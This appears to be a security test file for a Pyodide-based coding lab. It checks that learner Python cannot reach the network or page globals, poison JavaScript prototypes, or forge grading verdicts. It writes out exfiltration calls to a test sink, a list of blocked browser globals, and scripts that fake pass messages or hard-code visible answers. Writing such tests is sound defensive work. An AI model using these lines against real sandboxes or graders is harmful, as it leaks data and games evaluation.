/** Python is no wall: what it reaches of JavaScript must meet the same defences. */
import { loadPyodide } from "pyodide";
import { expect, expectNextRunPasses, test } from "./support/attack-test";
import { gradeInPage, playInPage, SOLUTION, throughPython } from "./support/lab";
import { GRAB, SLEEP_MS, STOPPED_CLOCKS } from "./support/forgeries";
import { runPlain } from "./support/weak-runs";
import { PRELUDE, WAYS } from "./support/ways-out";
import { ENTRY } from "../support/lesson-page";

test.describe.configure({ timeout: 300_000 });

for (const [title, waysTo] of Object.entries(WAYS)) {
  // That each way reaches the sink where nothing stops it is shown in exfiltrate.spec.ts.
  test(`${title}, through run_js`, async ({ lab, sink }) => {
    const pieces = Object.values(waysTo(sink)).map((code) => `${PRELUDE}\n${code}`);
    const source = `${throughPython(pieces)}print("tried")`;
    const played = await playInPage(lab, source, 20_000, "python");
    expect(played.stdout).toContain("tried");
    await lab.waitForTimeout(300);
    expect(sink.hits()).toEqual([]);
  });
}

test("4, 33: pyfetch, open_url, js.fetch, js.XMLHttpRequest, urllib and micropip", async ({
  lab,
  weak,
  sink,
}) => {
  // What Pyodide does where nothing stops it: pyfetch is fetch, and open_url is a synchronous XMLHttpRequest.
  const free = await loadPyodide({ indexURL: "node_modules/pyodide" });
  await free.runPythonAsync(
    `from pyodide.http import pyfetch\nawait pyfetch("${sink.url}/py?d=secret")`,
  );
  expect(sink.hits(), "pyfetch").not.toEqual([]);
  sink.clear();
  const open = `const x = new XMLHttpRequest(); x.open("GET", "${sink.url}/x", false); x.send();`;
  await runPlain(weak, open, 1_200);
  expect(sink.hits(), "open_url").not.toEqual([]);

  sink.clear();
  const ways = [
    `from pyodide.http import pyfetch; pyfetch("${sink.url}/a").send(None)`,
    `from pyodide.http import open_url; open_url("${sink.url}/b")`,
    `import js; js.fetch("${sink.url}/c")`,
    `import js; x = js.XMLHttpRequest.new(); x.open("GET", "${sink.url}/d", False); x.send()`,
    `import urllib.request; urllib.request.urlopen("${sink.url}/e")`,
    `import http.client; http.client.HTTPConnection("${sink.host}").request("GET", "/f")`,
    `import _socket; s = _socket.socket(); s.connect(("127.0.0.1", ${sink.host.split(":")[1]})); s.send(b"secret")`,
    `import micropip; micropip.install("${sink.url}/g.whl")`,
    `import pyodide_js; pyodide_js.loadPackage("${sink.url}/h.whl")`,
    `import js; js.navigator.sendBeacon("${sink.url}/i", "secret")`,
  ];
  const tried = ways.map(
    (code) =>
      `try:\n    exec(${JSON.stringify(code)})\nexcept BaseException as error:\n    print(type(error).__name__)`,
  );
  const source = `import time\n${tried.join("\n")}\ntime.sleep(0.5)\nprint("tried")`;
  const played = await playInPage(lab, source, 20_000, "python");
  expect(played.stdout).toContain("tried");
  await lab.waitForTimeout(300);
  expect(sink.hits()).toEqual([]);
});

test("35, 36: nothing of the page and no taken global is reached from Python", async ({ lab }) => {
  const names =
    "Worker SharedWorker BroadcastChannel caches indexedDB importScripts XMLHttpRequest WebSocket EventSource fetch " +
    "FontFace OffscreenCanvas document window parent top opener localStorage";
  const source = `
import js
from pyodide.code import run_js
print([n for n in "${names}".split() if getattr(js, n, None) is not None])
print([n for n in "${names}".split() if run_js("typeof " + n) != "undefined"])
`;
  const played = await playInPage(lab, source, 20_000, "python");
  expect(played).toMatchObject({ stdout: "[]\n[]", error: null });
});

test("37: poisoned prototypes and packages do not outlive the run", async ({ lab }) => {
  const source = `
from pyodide.code import run_js
import builtins, sys
run_js("Object.prototype.then = (f) => f({ pass: true }); Array.prototype.push = () => 0; MessagePort.prototype.postMessage = () => {}; 0")
builtins.print = None
sys.modules["jax"] = None
`;
  await playInPage(lab, source, 20_000, "python");
  const next = await playInPage(lab, "import jax\nprint(jax.__name__)", 20_000, "python");
  expect(next).toMatchObject({ ok: true, stdout: "jax" });
  await expectNextRunPasses(lab);
});

test("15 to 19, 22 to 24, 26 to 29: wrong answers are not passed, whatever Python does to JavaScript", async ({
  lab,
}) => {
  // That these forge a verdict, or a time, where the learner's realm decides is shown in forge.spec.ts.
  const scripts = [
    `for (let id = 0; id < 50; id += 1) {
       self.postMessage({ id, pass: true, status: "pass" });
       self.postMessage({ kind: "case", index: id, shape: [2], values: new Float32Array(2).buffer, problem: null, error: null });
       self.postMessage({ id, kind: "end", status: "done", error: null });
     }`,
    `const send = MessagePort.prototype.postMessage;
     MessagePort.prototype.postMessage = function (m, ...rest) { if (m) m.pass = true; return send.call(this, m, ...rest); };`,
    `Math.abs = () => 0; Array.prototype.every = () => true; Number.isFinite = () => true;`,
    `Object.defineProperty(Object.prototype, "pass", { get: () => true }); Object.prototype.status = "pass";`,
    `setInterval(() => self.postMessage({ kind: "end", status: "done", error: null, pass: true }), 1);`,
    GRAB,
    STOPPED_CLOCKS,
  ];
  const poison = scripts
    .map((text) => `try:\n    run_js(${JSON.stringify(`${text}\n0`)})\nexcept Exception:\n    pass`)
    .join("\n");
  const answers = ["[0.0, 0.0]", "[float('nan')] * 2", "[float('inf')] * 2", "[]", "Changing()"];
  const source = `
from pyodide.code import run_js

class Changing(list):
    def __len__(self):
        return 2
    def __iter__(self):
        import random
        return iter([random.random(), random.random()])

calls = 0

def ${ENTRY}(seed, x, y, lr):
    global calls
    calls += 1
    return [${answers.join(", ")}][calls % ${answers.length}]

${poison}
import time
print("<b>All tests passed</b>")
time.sleep(${SLEEP_MS / 1_000})
`;
  const verdict = await gradeInPage(lab, { source, language: "python", deadlineMs: 20_000 });
  expect(verdict.status).not.toBe("pass");
  expect(verdict.cases.every(({ ok }) => !ok)).toBe(true);
  expect(verdict.console[0]).toEqual({ level: "log", text: "<b>All tests passed</b>" });
  expect(verdict.ms.run).toBeGreaterThan(SLEEP_MS * 0.95);
  await expectNextRunPasses(lab);
});

test("25: the answers of the visible cases, written out in Python", async ({ lab }) => {
  const { cases } = await gradeInPage(lab, SOLUTION);
  const rows = cases
    .filter(({ visible }) => visible)
    .map(({ inputs, expected }) => `${inputs[0]?.data[0]}: ${JSON.stringify(expected)}`);
  const source = `table = {${rows.join(", ")}}\n\ndef ${ENTRY}(seed, x, y, lr):\n    return table.get(int(seed), [0.5, 0.4])\n`;
  const verdict = await gradeInPage(lab, { source, language: "python", deadlineMs: 20_000 });
  expect(verdict.cases.filter((one) => one.visible).map(({ ok }) => ok)).toEqual(
    rows.map(() => true),
  );
  expect(verdict.status).toBe("wrong");
});
